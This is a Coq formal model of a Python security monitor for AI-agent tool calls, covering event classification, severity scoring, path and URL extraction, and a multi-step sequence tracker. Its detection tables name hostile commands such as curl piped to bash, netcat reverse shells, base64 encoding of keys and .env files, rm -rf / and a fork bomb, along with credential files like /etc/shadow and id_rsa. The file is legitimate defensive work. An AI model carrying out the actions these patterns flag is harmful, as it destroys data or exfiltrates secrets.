(** * AgentsLeak: a shallow embedding of the server-side pipeline

  The development follows the Python sources of the repository:

  - [agentsleak/models/events.py], [agentsleak/models/graph.py]: data model;
  - [agentsleak/engine/classifier.py]: classification and extraction;
  - [agentsleak/engine/sequence.py]: the behavioural sequence tracker;
  - [agentsleak/store/database.py]: the SQLite store (rows as lists);
  - [agentsleak/engine/processor.py]: the engine (pre-tool evaluation,
    risk scoring, graph builder).

  Conventions.  Python [str] is [string] (a sequence of 8-bit characters;
  case folding is the ASCII one).  [datetime] values are [Z], counted in
  microseconds since the epoch, and [timedelta(seconds=n)] is
  [n * 1000000].  A UUID is an [N].  SQL tables are lists of rows in
  insertion order; a mutable Python object threaded through calls is an
  explicit state. *)

From Stdlib Require Import Ascii String ZArith Lia Bool DecimalString Sorting.Sorted.
From stdpp Require Import gmap strings list.

Set Warnings "-register-all,-clear-no-such-hyp,-level-tolerance".
Local Open Scope Z_scope.

(** ** Python strings *)

Module Str.

Definition lower_ascii (c : ascii) : ascii :=
  let n := nat_of_ascii c in
  if ((65 <=? n) && (n <=? 90))%nat then ascii_of_nat (n + 32) else c.

(** [str.lower()] *)
Fixpoint lower (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => String (lower_ascii c) (lower s')
  end.

(** [s.startswith(p)] *)
Definition startswith (s p : string) : bool := String.prefix p s.

(** [needle in hay] *)
Fixpoint contains (needle hay : string) : bool :=
  String.prefix needle hay ||
  match hay with
  | EmptyString => false
  | String _ hay' => contains needle hay'
  end.

(** Characters for which [str.isspace()] holds in the ASCII range. *)
Definition is_space (c : ascii) : bool :=
  let n := nat_of_ascii c in
  (((9 <=? n) && (n <=? 13)) || ((28 <=? n) && (n <=? 32)))%nat.

(** [s.lstrip()] *)
Fixpoint lstrip (s : string) : string :=
  match s with
  | String c s' => if is_space c then lstrip s' else s
  | EmptyString => EmptyString
  end.

(** The longest prefix without white space. *)
Fixpoint take_word (s : string) : string :=
  match s with
  | String c s' => if is_space c then EmptyString else String c (take_word s')
  | EmptyString => EmptyString
  end.

(** [s.split()[0]] when [s.strip()] is not empty, [None] otherwise. *)
Definition first_token (s : string) : option string :=
  match lstrip s with
  | EmptyString => None
  | w => Some (take_word w)
  end.

(** The part after the last ['/'] ([os.path.basename] on POSIX). *)
Fixpoint basename_aux (acc s : string) : string :=
  match s with
  | EmptyString => acc
  | String c s' =>
      if Ascii.eqb c "/"%char then basename_aux EmptyString s'
      else basename_aux (acc +:+ String c EmptyString) s'
  end.
Definition basename (s : string) : string := basename_aux EmptyString s.

(** [s[:n]] *)
Fixpoint take (n : nat) (s : string) : string :=
  match n, s with
  | S n', String c s' => String c (take n' s')
  | _, _ => EmptyString
  end.

(** [any(s.startswith(p) for p in ps)], i.e. [s.startswith(tuple)] *)
Definition startswith_any (s : string) (ps : list string) : bool :=
  existsb (startswith s) ps.

(** [x in xs] for a list of strings *)
Definition mem (x : string) (xs : list string) : bool :=
  existsb (String.eqb x) xs.


End Str.

(** ** Data model ([models/events.py]) *)

Inductive EventCategory :=
| FILE_READ | FILE_WRITE | FILE_DELETE | COMMAND_EXEC | NETWORK_ACCESS
| CODE_EXECUTION | SUBAGENT_SPAWN | MCP_TOOL_USE | SESSION_LIFECYCLE | UNKNOWN.

Inductive Severity := CRITICAL | HIGH | MEDIUM | LOW | INFO.

#[global] Instance EventCategory_eq_dec : EqDecision EventCategory.
Proof. solve_decision. Defined.
#[global] Instance Severity_eq_dec : EqDecision Severity.
Proof. solve_decision. Defined.

(** The [StrEnum] values. *)
Definition category_value (c : EventCategory) : string :=
  match c with
  | FILE_READ => "file_read" | FILE_WRITE => "file_write"
  | FILE_DELETE => "file_delete" | COMMAND_EXEC => "command_exec"
  | NETWORK_ACCESS => "network_access" | CODE_EXECUTION => "code_execution"
  | SUBAGENT_SPAWN => "subagent_spawn" | MCP_TOOL_USE => "mcp_tool_use"
  | SESSION_LIFECYCLE => "session_lifecycle" | UNKNOWN => "unknown"
  end.

Definition severity_value (s : Severity) : string :=
  match s with
  | CRITICAL => "critical" | HIGH => "high" | MEDIUM => "medium"
  | LOW => "low" | INFO => "info"
  end.

(** A JSON tree: the free-form part of a payload and the [event_data]
  dictionaries handed to policies and sequence rules. *)
Inductive JVal :=
| JNull
| JBool (b : bool)
| JNum (z : Z)
| JStr (s : string)
| JList (l : list JVal)
| JDict (kv : list (string * JVal)).

(** A Python [dict] with string keys: an association list, first binding
  wins. *)
Definition PyDict (V : Type) := list (string * V).

Fixpoint dict_get {V} (d : PyDict V) (k : string) : option V :=
  match d with
  | [] => None
  | (k', v) :: d' => if String.eqb k k' then Some v else dict_get d' k
  end.

(** [k in d] *)
Definition dict_has {V} (d : PyDict V) (k : string) : bool :=
  match dict_get d k with Some _ => true | None => false end.

Definition UUID := N.
Definition datetime := Z.

(** [timedelta(seconds=n)] in microseconds. *)
Definition seconds (n : Z) : Z := n * 1000000.

(** [Event].  The values of [tool_input] are strings, as the [ToolInput]
  schema of [models/events.py] types them. *)
Record Event := mkEvent {
  ev_id : UUID;
  ev_session_id : string;
  ev_timestamp : datetime;
  ev_hook_type : string;
  ev_tool_name : option string;
  ev_tool_input : option (PyDict string);
  ev_tool_result : option (PyDict JVal);
  ev_category : EventCategory;
  ev_severity : Severity;
  ev_file_paths : list string;
  ev_commands : list string;
  ev_urls : list string;
  ev_ip_addresses : list string;
  ev_processed : bool;
  ev_enriched : bool;
  ev_raw_payload : option (PyDict JVal)
}.

(** [event.tool_input or {}] *)
Definition tool_input_or_empty (e : Event) : PyDict string :=
  match ev_tool_input e with Some d => d | None => [] end.

(** ** The [re] module

    Python's regular expressions are an interface of the development: the
    functions below are what the sources call.  Everything proved holds for
    every implementation of it. *)
Class PyRe := {
  (** [re.search(pattern, text, flags)] as a truth value; the first argument
      is [re.IGNORECASE]; [None] is [re.error] (a pattern that does not
      compile). *)
  re_search : bool -> string -> string -> option bool;
  (** [re.findall(pattern, text)] for a pattern with at most one group. *)
  re_findall : string -> string -> list string;
  (** [[m.groups() for m in re.finditer(pattern, text)]] *)
  re_finditer : string -> string -> list (list string)
}.

(** A search with one of the constant patterns of the sources. *)
Definition re_found `{PyRe} (ignorecase : bool) (pattern text : string) : bool :=
  match re_search ignorecase pattern text with
  | Some b => b
  | None => false
  end.

(** The double quote, for patterns that contain one. *)
Definition dquote : string := String (ascii_of_nat 34) EmptyString.

(** ** Classifier ([engine/classifier.py]) *)

Module Classifier.

Definition TOOL_CATEGORY_MAP : PyDict EventCategory :=
  [ ("Read", FILE_READ); ("read_file", FILE_READ); ("cat", FILE_READ);
    ("head", FILE_READ); ("tail", FILE_READ); ("Glob", FILE_READ);
    ("Grep", FILE_READ);
    ("Write", FILE_WRITE); ("Edit", FILE_WRITE); ("write_file", FILE_WRITE);
    ("NotebookEdit", FILE_WRITE);
    ("Bash", COMMAND_EXEC); ("bash", COMMAND_EXEC);
    ("execute_command", COMMAND_EXEC); ("shell", COMMAND_EXEC);
    ("WebFetch", NETWORK_ACCESS); ("WebSearch", NETWORK_ACCESS);
    ("fetch", NETWORK_ACCESS); ("curl", NETWORK_ACCESS);
    ("http", NETWORK_ACCESS);
    ("Task", SUBAGENT_SPAWN); ("dispatch_agent", SUBAGENT_SPAWN);
    ("TaskCreate", SESSION_LIFECYCLE); ("TaskUpdate", SESSION_LIFECYCLE);
    ("TaskList", SESSION_LIFECYCLE); ("TaskGet", SESSION_LIFECYCLE);
    ("TaskStop", SESSION_LIFECYCLE); ("TodoWrite", SESSION_LIFECYCLE);
    ("TodoRead", SESSION_LIFECYCLE);
    ("AskUserQuestion", SESSION_LIFECYCLE); ("Skill", SESSION_LIFECYCLE);
    ("EnterPlanMode", SESSION_LIFECYCLE); ("ExitPlanMode", SESSION_LIFECYCLE) ].

Definition network_commands : list string :=
  [ "curl"; "wget"; "ssh"; "scp"; "rsync"; "nc"; "netcat";
    "ping"; "traceroute"; "dig"; "nslookup"; "host";
    "ftp"; "sftp"; "telnet" ].

(** [_is_network_command]: some utility name occurs in the lower-cased
    command. *)
Definition _is_network_command (command : string) : bool :=
  let command_lower := Str.lower command in
  existsb (fun cmd => Str.contains cmd command_lower) network_commands.

(** The direct tool mapping: [tool_name and tool_name in TOOL_CATEGORY_MAP]. *)
Definition tool_category (tool_name : option string) : option EventCategory :=
  match tool_name with
  | Some t => if String.eqb t "" then None else dict_get TOOL_CATEGORY_MAP t
  | None => None
  end.

Definition classify_event (event : Event) : EventCategory :=
  match tool_category (ev_tool_name event) with
  | Some c => c
  | None =>
    let tool_input := tool_input_or_empty event in
    if dict_has tool_input "file_path" || dict_has tool_input "path" then
      if dict_has tool_input "content" || dict_has tool_input "new_string"
      then FILE_WRITE else FILE_READ
    else if dict_has tool_input "command" then
      let command := default "" (dict_get tool_input "command") in
      if _is_network_command command then NETWORK_ACCESS else COMMAND_EXEC
    else if dict_has tool_input "url" then NETWORK_ACCESS
    else if Str.mem (ev_hook_type event)
              ["SessionStart"; "SessionEnd"; "PermissionRequest";
               "UserPromptSubmit"]
    then SESSION_LIFECYCLE
    else if Str.mem (ev_hook_type event) ["SubagentStart"; "SubagentStop"]
    then SUBAGENT_SPAWN
    else UNKNOWN
  end.

(** The reading of the specification's wording for the command shape: the
    first token of the command is one of the network utilities. *)
Definition spec_first_token_is_network_utility (command : string) : bool :=
  match Str.first_token command with
  | Some t => Str.mem t network_commands
  | None => false
  end.

Definition DANGEROUS_COMMAND_PATTERNS : list (string * Severity) :=
  [ ("rm\s+-rf\s+/", CRITICAL);
    (":(){ :|:& };:", CRITICAL);
    ("mkfs\.", CRITICAL);
    ("dd\s+if=.*of=/dev/", CRITICAL);
    ("chmod\s+-R\s+777\s+/", CRITICAL);
    ("curl.*\|\s*(bash|sh)", HIGH);
    ("wget.*\|\s*(bash|sh)", HIGH);
    ("rm\s+-rf", HIGH);
    ("sudo\s+", HIGH);
    ("chmod\s+[0-7]*7[0-7]*", HIGH);
    ("chown\s+-R", HIGH);
    ("nc\s+-.*-e", HIGH);
    ("python.*-c.*socket", HIGH);
    ("base64\s+-d.*\|", HIGH);
    ("python[23]?\s+-c\s+.*(?:import\s+(?:requests|urllib|http|socket)|urlopen|urlretrieve)", HIGH);
    ("node\s+-e\s+.*(?:require\s*\(\s*['\" +:+ dquote +:+
       "](?:http|https|net|child_process)|fetch\s*\()", HIGH);
    ("ruby\s+-e\s+.*(?:Net::HTTP|TCPSocket|open-uri|URI\.open)", HIGH);
    ("perl\s+-e\s+.*(?:LWP|IO::Socket|Net::HTTP)", HIGH);
    ("base64.*(?:\.env|\.pem|\.key|credential|secret|password|ssh)", HIGH);
    ("openssl\s+(?:enc|base64).*(?:\.env|\.pem|\.key)", HIGH);
    ("xxd.*(?:\.env|\.pem|\.key|credential)", HIGH);
    ("\$\(.*(?:curl|wget|base64|cat\s+.*\.env)", HIGH);
    ("eval\s+.*(?:curl|wget|base64|\\x)", HIGH);
    ("echo\s+[A-Za-z0-9+/=]{20,}\s*\|\s*base64\s+-d", HIGH);
    ("curl\s+", MEDIUM);
    ("wget\s+", MEDIUM);
    ("git\s+clone", MEDIUM);
    ("pip\s+install", MEDIUM);
    ("npm\s+install", MEDIUM);
    ("ssh\s+", MEDIUM);
    ("scp\s+", MEDIUM);
    ("git\s+", LOW);
    ("ls\s+", INFO);
    ("pwd", INFO);
    ("echo\s+", INFO) ].

Definition SENSITIVE_FILE_PATTERNS : list (string * Severity) :=
  [ ("/etc/passwd", HIGH);
    ("/etc/shadow", CRITICAL);
    ("\.ssh/.*", HIGH);
    ("id_rsa", CRITICAL);
    ("id_ed25519", CRITICAL);
    ("\.aws/credentials", CRITICAL);
    ("\.env", HIGH);
    ("\.netrc", HIGH);
    ("\.pgpass", HIGH);
    ("\.git/config", MEDIUM);
    ("password", MEDIUM);
    ("secret", MEDIUM);
    ("token", MEDIUM);
    ("api.?key", MEDIUM);
    ("\.bashrc", LOW);
    ("\.zshrc", LOW);
    ("\.profile", LOW) ].

Definition severity_order (s : Severity) : nat :=
  match s with
  | INFO => 0 | LOW => 1 | MEDIUM => 2 | HIGH => 3 | CRITICAL => 4
  end%nat.

Definition _max_severity (a b : Severity) : Severity :=
  if (severity_order b <=? severity_order a)%nat then a else b.

(** [a or b] on optional strings: the empty string is falsy. *)
Definition str_or (a b : option string) : option string :=
  match a with
  | Some s => if String.eqb s "" then b else a
  | None => b
  end.

Section WithRe.
Context `{PyRe}.

(** The inner loops of [compute_severity]: the maximum over the patterns of
    a table that are found in [text]. *)
Definition scan_patterns (table : list (string * Severity)) (text : string)
    (acc : Severity) : Severity :=
  fold_left (fun m '(pattern, severity) =>
               if re_found true pattern text then _max_severity m severity else m)
            table acc.

Definition compute_severity (event : Event) : Severity :=
  let tool_input := tool_input_or_empty event in
  let max_severity := INFO in
  let max_severity :=
    if decide (ev_category event = COMMAND_EXEC) then
      let command := default "" (dict_get tool_input "command") in
      scan_patterns DANGEROUS_COMMAND_PATTERNS command max_severity
    else max_severity in
  let file_paths := ev_file_paths event in
  let file_path := str_or (dict_get tool_input "file_path")
                          (dict_get tool_input "path") in
  let file_paths :=
    match file_path with
    | Some p => if String.eqb p "" then file_paths else p :: file_paths
    | None => file_paths
    end in
  let max_severity :=
    fold_left (fun m path => scan_patterns SENSITIVE_FILE_PATTERNS path m)
              file_paths max_severity in
  let max_severity :=
    if decide (ev_category event = NETWORK_ACCESS)
    then _max_severity max_severity LOW else max_severity in
  let max_severity :=
    if decide (ev_category event = SUBAGENT_SPAWN)
    then _max_severity max_severity MEDIUM else max_severity in
  max_severity.

(** The values of the keys of [ks] that are present, in the order of [ks]. *)
Definition present_values (d : PyDict string) (ks : list string) : list string :=
  omap (dict_get d) ks.

(** [list(set(xs))]: the distinct elements (Python leaves their order
    unspecified; here the last occurrence of each is kept in place). *)
Definition list_set (xs : list string) : list string := remove_dups xs.

Definition path_pattern : string := "(?:^|\s)(/[^\s;|&><]+|\.?\.?/[^\s;|&><]+)".
Definition url_pattern : string := "https?://[^\s" +:+ dquote +:+ "\'>]+".
Definition ipv4_pattern : string := "\b(?:\d{1,3}\.){3}\d{1,3}\b".

Definition extract_file_paths (event : Event) : list string :=
  let tool_input := tool_input_or_empty event in
  let paths := present_values tool_input ["file_path"; "path"; "notebook_path"] in
  let paths :=
    match dict_get tool_input "pattern" with
    | Some p => if decide (ev_tool_name event = Some "Glob") then paths ++ [p] else paths
    | None => paths
    end in
  let paths :=
    match dict_get tool_input "command" with
    | Some command => paths ++ re_findall path_pattern command
    | None => paths
    end in
  list_set paths.

Definition extract_commands (event : Event) : list string :=
  match dict_get (tool_input_or_empty event) "command" with
  | Some command => [command]
  | None => []
  end.

Definition extract_urls (event : Event) : list string :=
  let tool_input := tool_input_or_empty event in
  let urls := match dict_get tool_input "url" with Some u => [u] | None => [] end in
  let urls :=
    match dict_get tool_input "command" with
    | Some command => urls ++ re_findall url_pattern command
    | None => urls
    end in
  list_set urls.

Definition extract_ip_addresses (event : Event) : list string :=
  let tool_input := tool_input_or_empty event in
  let ips :=
    match dict_get tool_input "command" with
    | Some command => re_findall ipv4_pattern command
    | None => []
    end in
  let ips :=
    match dict_get tool_input "url" with
    | Some u => ips ++ re_findall ipv4_pattern u
    | None => ips
    end in
  list_set ips.

(** [CommandFileRef]: a path and its role ("writes", "reads", "executes"). *)
Record CommandFileRef := mkRef { ref_path : string; ref_role : string }.

(** [_add]: append unless the (path, role) pair was seen. *)
Definition _add (refs : list CommandFileRef) (path role : string) : list CommandFileRef :=
  if existsb (fun r => String.eqb (ref_path r) path && String.eqb (ref_role r) role) refs
  then refs else refs ++ [mkRef path role].

(** One [for m in re.finditer(pattern, command): _add(m.group(1), role)] loop,
    with the guard of the loop on the path. *)
Definition add_group1 (pattern role : string) (keep : string -> bool)
    (command : string) (refs : list CommandFileRef) : list CommandFileRef :=
  fold_left (fun acc groups =>
               match groups with
               | g1 :: _ => if keep g1 then _add acc g1 role else acc
               | [] => acc
               end)
            (re_finditer pattern command) refs.

Definition always (_ : string) : bool := true.

Definition extract_command_file_refs (command : string) : list CommandFileRef :=
  let refs := [] in
  let refs := add_group1 "(?:curl|wget)\s+.*?(?:-o|-O|--output[= ])\s*(\S+)" "writes"
                always command refs in
  let refs := add_group1 "(?:\d|&)?>>?\s*([^\s;|&]+)" "writes"
                (fun p => negb (Str.startswith p "-") && negb (Str.startswith p "/dev/"))
                command refs in
  let refs := add_group1 "tee\s+(?:-a\s+)?(\S+)" "writes" always command refs in
  let refs :=
    fold_left (fun acc groups =>
                 match groups with
                 | g1 :: g2 :: _ => _add (_add acc g1 "reads") g2 "writes"
                 | _ => acc
                 end)
              (re_finditer "(?:cp|mv)\s+(?:-\w+\s+)*(\S+)\s+(\S+)" command) refs in
  let refs := add_group1
                "(?:^|[;|&]\s*)(?:bash|sh|zsh|python3?|node|ruby|perl)\s+([^\s;|&-]\S*)"
                "executes" always command refs in
  let refs := add_group1 "(?:^|[;|&]\s*)(\./[^\s;|&]+)" "executes" always command refs in
  let refs := add_group1 "(?:source|\.)\s+([^\s;|&]+)" "executes" always command refs in
  let refs := add_group1 "chmod\s+\+x\s+(\S+)" "executes" always command refs in
  let refs := add_group1
                "(?:cat|less|more|head|tail|sort|wc|md5sum|sha256sum)\s+(?:-\w+\s+)*([^\s;|&-]\S*)"
                "reads" always command refs in
  let refs := add_group1 "<\s*([^\s;|&]+)" "reads"
                (fun p => negb (Str.startswith p "<")) command refs in
  let refs := add_group1 "-d\s+@(\S+)" "reads" always command refs in
  refs.

End WithRe.

(** *** Statements about the classifier *)

(** The order of severities. *)
Definition sev_le (a b : Severity) : Prop := (severity_order a <= severity_order b)%nat.

(** The paths [compute_severity] scans: the [file_path] (or else [path])
    of the tool input, when not empty, and the extracted paths. *)
Definition scanned_path (event : Event) (path : string) : Prop :=
  (str_or (dict_get (tool_input_or_empty event) "file_path")
          (dict_get (tool_input_or_empty event) "path") = Some path /\ path <> "") \/
  In path (ev_file_paths event).

(** The (path, role) pairs of file references, all distinct and with a
    known role. *)
Definition ref_key (r : CommandFileRef) : string * string := (ref_path r, ref_role r).

Definition refs_ok (refs : list CommandFileRef) : Prop :=
  List.NoDup (map ref_key refs) /\
  forall r, In r refs -> In (ref_role r) ["writes"; "reads"; "executes"].

End Classifier.

(** ** Python values as text and as paths *)

Module Py.

(** A stable sort by an integer key, as [sorted(xs, key=...)]: an element
    goes before the first later element whose key is not smaller. *)
Fixpoint insert_by {A} (key : A -> Z) (x : A) (l : list A) : list A :=
  match l with
  | [] => [x]
  | y :: l' => if key x <=? key y then x :: l else y :: insert_by key x l'
  end.

Definition sorted_by {A} (key : A -> Z) (l : list A) : list A :=
  foldr (insert_by key) [] l.

(** [sep.join(xs)] *)
Fixpoint join (sep : string) (xs : list string) : string :=
  match xs with
  | [] => ""
  | [x] => x
  | x :: xs' => x +:+ sep +:+ join sep xs'
  end.

(** [s.split(sep)] for a one-character separator. *)
Fixpoint split_aux (sep : ascii) (acc s : string) : list string :=
  match s with
  | EmptyString => [acc]
  | String c s' =>
      if Ascii.eqb c sep then acc :: split_aux sep EmptyString s'
      else split_aux sep (acc +:+ String c EmptyString) s'
  end.
Definition split (sep : ascii) (s : string) : list string :=
  split_aux sep EmptyString s.

(** Decimal text of an integer. *)
Definition int_str (z : Z) : string :=
  DecimalString.NilZero.string_of_int (Z.to_int z).

(** [repr(v)] and [str(v)].  The text of a string inside a container is
    the string between single quotes, which is what Python prints for a
    string without quotes, backslashes or control characters. *)
Fixpoint repr (v : JVal) : string :=
  match v with
  | JNull => "None"
  | JBool b => if b then "True" else "False"
  | JNum z => int_str z
  | JStr s => "'" +:+ s +:+ "'"
  | JList l => "[" +:+ join ", " (map repr l) +:+ "]"
  | JDict kv =>
      "{" +:+ join ", " (map (fun p => "'" +:+ fst p +:+ "': " +:+ repr (snd p)) kv)
          +:+ "}"
  end.

Definition str (v : JVal) : string :=
  match v with
  | JStr s => s
  | _ => repr v
  end.

End Py.

(** [PolicyAction] ([models/alerts.py]). *)
Inductive PolicyAction := ALERT | BLOCK | LOG.

#[global] Instance PolicyAction_eq_dec : EqDecision PolicyAction.
Proof. solve_decision. Defined.

(** ** Sequence tracker ([engine/sequence.py]) *)

Module Sequence.

Record SequenceStep := mkStep {
  step_label : string;
  step_categories : list string;
  step_field_patterns : PyDict string
}.

Record SequenceRule := mkRule {
  rule_id : string;
  rule_name : string;
  rule_description : string;
  rule_steps : list SequenceStep;
  rule_time_window_seconds : Z;
  rule_ordered : bool;
  rule_action : PolicyAction;
  rule_severity : Severity;
  rule_alert_title : string;
  rule_alert_description : string;
  rule_tags : list string;
  rule_enabled : bool
}.

Record _BufferedEvent := mkBuffered {
  be_event_id : UUID;
  be_timestamp : datetime;
  be_data : PyDict JVal
}.

(** The tracker: its rules, one buffer per session (a [deque] bounded by
    [_max_buffer_size]) and the set of (rule id, session id) already fired. *)
Record SequenceTracker := mkTracker {
  _rules : list SequenceRule;
  _buffers : gmap string (list _BufferedEvent);
  _max_buffer_size : nat;
  _fired : gset (string * string)
}.

(** [SequenceTracker()] *)
Definition new_tracker : SequenceTracker := mkTracker [] ∅ 500 ∅.

Definition load_rules (t : SequenceTracker) (rules : list SequenceRule) : SequenceTracker :=
  mkTracker (filter (fun r => rule_enabled r = true) rules)
            (_buffers t) (_max_buffer_size t) (_fired t).

(** [deque.append] on a deque with [maxlen]: a full deque drops from the left. *)
Definition deque_append {A} (maxlen : nat) (buf : list A) (x : A) : list A :=
  let b := buf ++ [x] in drop (length b - maxlen) b.

(** [while buf and buf[0].timestamp < cutoff: buf.popleft()] *)
Fixpoint prune (cutoff : datetime) (buf : list _BufferedEvent) : list _BufferedEvent :=
  match buf with
  | e :: buf' => if be_timestamp e <? cutoff then prune cutoff buf' else buf
  | [] => []
  end.

(** [max((r.time_window_seconds for r in rules), default=300)] *)
Definition max_window (rules : list SequenceRule) : Z :=
  match rules with
  | [] => 300
  | r :: rs => fold_left (fun m r' => Z.max m (rule_time_window_seconds r')) rs
                         (rule_time_window_seconds r)
  end.

(** [_get_nested]; Python's [None] is [JNull]. *)
Fixpoint walk (value : JVal) (parts : list string) : JVal :=
  match parts with
  | [] => value
  | part :: parts' =>
      match value with
      | JDict kv =>
          match dict_get kv part with
          | Some v => walk v parts'
          | None => walk JNull parts'
          end
      | _ => JNull
      end
  end.

Definition _get_nested (data : PyDict JVal) (path : string) : JVal :=
  walk (JDict data) (Py.split "."%char path).

Section WithRe.
Context `{PyRe}.

Definition _matches_step (step : SequenceStep) (event_data : PyDict JVal) : bool :=
  (match step_categories step with
   | [] => true
   | cats =>
       match default (JStr "") (dict_get event_data "category") with
       | JStr event_cat => Str.mem event_cat cats
       | _ => false
       end
   end) &&
  forallb (fun '(field_path, pattern) =>
             match _get_nested event_data field_path with
             | JNull => false
             | field_value =>
                 match re_search true pattern (Py.str field_value) with
                 | Some true => true
                 | _ => false
                 end
             end)
          (step_field_patterns step).

(** The scan of one step of [_find_ordered_match]: the first event, in
    time order, that is not before [last_time]. *)
Definition pick (last_time : option datetime) (matches : list _BufferedEvent)
    : option _BufferedEvent :=
  List.find (fun event =>
               match last_time with
               | None => true
               | Some t => t <=? be_timestamp event
               end)
            (Py.sorted_by be_timestamp matches).

Fixpoint find_ordered_from (last_time : option datetime)
    (step_matches : list (list _BufferedEvent)) : option (list _BufferedEvent) :=
  match step_matches with
  | [] => Some []
  | matches :: rest =>
      match pick last_time matches with
      | Some event =>
          match find_ordered_from (Some (be_timestamp event)) rest with
          | Some result => Some (event :: result)
          | None => None
          end
      | None => None
      end
  end.

Definition _find_ordered_match (step_matches : list (list _BufferedEvent))
    : option (list _BufferedEvent) :=
  find_ordered_from None step_matches.

(** The events of the window that match each step; [None] as soon as a
    step has none. *)
Fixpoint collect_step_matches (steps : list SequenceStep)
    (window_events : list _BufferedEvent) : option (list (list _BufferedEvent)) :=
  match steps with
  | [] => Some []
  | step :: steps' =>
      match List.filter (fun e => _matches_step step (be_data e)) window_events with
      | [] => None
      | matching =>
          match collect_step_matches steps' window_events with
          | Some rest => Some (matching :: rest)
          | None => None
          end
      end
  end.

(** [matches[0]] of a list that is not empty. *)
Definition first_of (matches : list _BufferedEvent) : list _BufferedEvent :=
  match matches with
  | e :: _ => [e]
  | [] => []
  end.

Definition _check_rule (t : SequenceTracker) (rule : SequenceRule)
    (session_id : string) (now : datetime) : option (list _BufferedEvent) :=
  match _buffers t !! session_id with
  | None | Some [] => None
  | Some buf =>
      let cutoff := now - seconds (rule_time_window_seconds rule) in
      let window_events := List.filter (fun e => cutoff <=? be_timestamp e) buf in
      match window_events with
      | [] => None
      | _ =>
          match collect_step_matches (rule_steps rule) window_events with
          | None => None
          | Some step_matches =>
              if rule_ordered rule then _find_ordered_match step_matches
              else Some (concat (map first_of step_matches))
          end
      end
  end.

(** The loop of [track_event] over the rules: the set of fired keys and the
    matches found so far are carried along. *)
Fixpoint check_rules (t : SequenceTracker) (session_id : string) (now : datetime)
    (rules : list SequenceRule) (fired : gset (string * string))
    : gset (string * string) * list (SequenceRule * list _BufferedEvent) :=
  match rules with
  | [] => (fired, [])
  | rule :: rules' =>
      match _check_rule t rule session_id now with
      | Some result =>
          let dedup_key := (rule_id rule, session_id) in
          if decide (dedup_key ∈ fired) then check_rules t session_id now rules' fired
          else
            let '(fired', matches) :=
              check_rules t session_id now rules' ({[dedup_key]} ∪ fired) in
            (fired', (rule, result) :: matches)
      | None => check_rules t session_id now rules' fired
      end
  end.

Definition track_event (t : SequenceTracker) (event_id : UUID) (session_id : string)
    (timestamp : datetime) (event_data : PyDict JVal)
    : SequenceTracker * list (SequenceRule * list _BufferedEvent) :=
  let buf := default [] (_buffers t !! session_id) in
  let entry := mkBuffered event_id timestamp event_data in
  let buf := deque_append (_max_buffer_size t) buf entry in
  let cutoff := timestamp - seconds (max_window (_rules t)) in
  let buf := prune cutoff buf in
  let t1 := mkTracker (_rules t) (<[session_id := buf]> (_buffers t))
                      (_max_buffer_size t) (_fired t) in
  let '(fired, matches) := check_rules t1 session_id timestamp (_rules t1) (_fired t1) in
  (mkTracker (_rules t1) (_buffers t1) (_max_buffer_size t1) fired, matches).

End WithRe.

Definition reset_session (t : SequenceTracker) (session_id : string) : SequenceTracker :=
  mkTracker (_rules t) (delete session_id (_buffers t)) (_max_buffer_size t)
            (filter (fun key => snd key <> session_id) (_fired t)).

(** *** Statements about the tracker *)

(** [last_time is None or t >= last_time] *)
Definition after (last_time : option datetime) (t : datetime) : Prop :=
  match last_time with None => True | Some l => l <= t end.

Fixpoint chain_from (last_time : option datetime) (ts : list datetime) : Prop :=
  match ts with
  | [] => True
  | t :: ts' => after last_time t /\ chain_from (Some t) ts'
  end.

(** Timestamps that never go back. *)
Definition nondecreasing (ts : list datetime) : Prop := chain_from None ts.

(** The same rule with another [ordered] flag. *)
Definition with_ordered (ordered : bool) (rule : SequenceRule) : SequenceRule :=
  mkRule (rule_id rule) (rule_name rule) (rule_description rule) (rule_steps rule)
         (rule_time_window_seconds rule) ordered (rule_action rule)
         (rule_severity rule) (rule_alert_title rule) (rule_alert_description rule)
         (rule_tags rule) (rule_enabled rule).

(** An event of the buffer that is inside the window of the rule and
    matches the step. *)
Definition window_match `{PyRe} (buf : list _BufferedEvent) (cutoff : datetime)
    (step : SequenceStep) (e : _BufferedEvent) : Prop :=
  In e buf /\ cutoff <= be_timestamp e /\ _matches_step step (be_data e) = true.

(** The rule ids of the matches a call returned. *)
Definition fired_ids (ms : list (SequenceRule * list _BufferedEvent)) : list string :=
  map (fun m => rule_id (fst m)) ms.

Section Runs.
Context `{PyRe}.

(** One call on the tracker. *)
Inductive TrackerOp :=
| OpTrack (event_id : UUID) (session_id : string) (timestamp : datetime)
          (event_data : PyDict JVal)
| OpReset (session_id : string)
| OpLoad (rules : list SequenceRule).

(** A run: the tracker after the calls, and the session id and rule id of
    every match that [track_event] returned, in order. *)
Fixpoint run_ops (t : SequenceTracker) (ops : list TrackerOp)
    : SequenceTracker * list (string * string) :=
  match ops with
  | [] => (t, [])
  | OpTrack event_id session_id timestamp event_data :: ops' =>
      let '(t', ms) := track_event t event_id session_id timestamp event_data in
      let '(t'', log) := run_ops t' ops' in
      (t'', map (fun rid => (session_id, rid)) (fired_ids ms) ++ log)
  | OpReset session_id :: ops' => run_ops (reset_session t session_id) ops'
  | OpLoad rules :: ops' => run_ops (load_rules t rules) ops'
  end.

Definition fire_count (session_id rid : string) (log : list (string * string)) : nat :=
  length (List.filter (fun e => String.eqb (fst e) session_id && String.eqb (snd e) rid) log).

End Runs.

(** Buffered events in the order of their timestamps. *)
Definition time_ordered (buf : list _BufferedEvent) : Prop :=
  StronglySorted (fun a b => be_timestamp a <= be_timestamp b) buf.

(** The buffer of a session, empty when the session has none. *)
Definition buffer_of (t : SequenceTracker) (session_id : string) : list _BufferedEvent :=
  default [] (_buffers t !! session_id).

End Sequence.

(** ** Graph and alert models ([models/graph.py], [models/alerts.py]) *)

Inductive NodeType :=
| NT_SESSION | NT_FILE | NT_DIRECTORY | NT_COMMAND | NT_PROCESS | NT_NETWORK
| NT_URL | NT_IP_ADDRESS | NT_TOOL | NT_USER | NT_ALERT.

Inductive EdgeRelation :=
| READS | WRITES | CREATES | DELETES | MODIFIES
| EXECUTES | SPAWNS | TERMINATES
| CONNECTS_TO | DOWNLOADS_FROM | UPLOADS_TO | FETCHES
| CONTAINS | PARENT_OF | CHILD_OF
| USES | INVOKES
| TRIGGERS | RELATED_TO.

#[global] Instance NodeType_eq_dec : EqDecision NodeType.
Proof. solve_decision. Defined.
#[global] Instance EdgeRelation_eq_dec : EqDecision EdgeRelation.
Proof. solve_decision. Defined.

(** [GraphNode]; [size] and the [weight] of an edge are floats that only
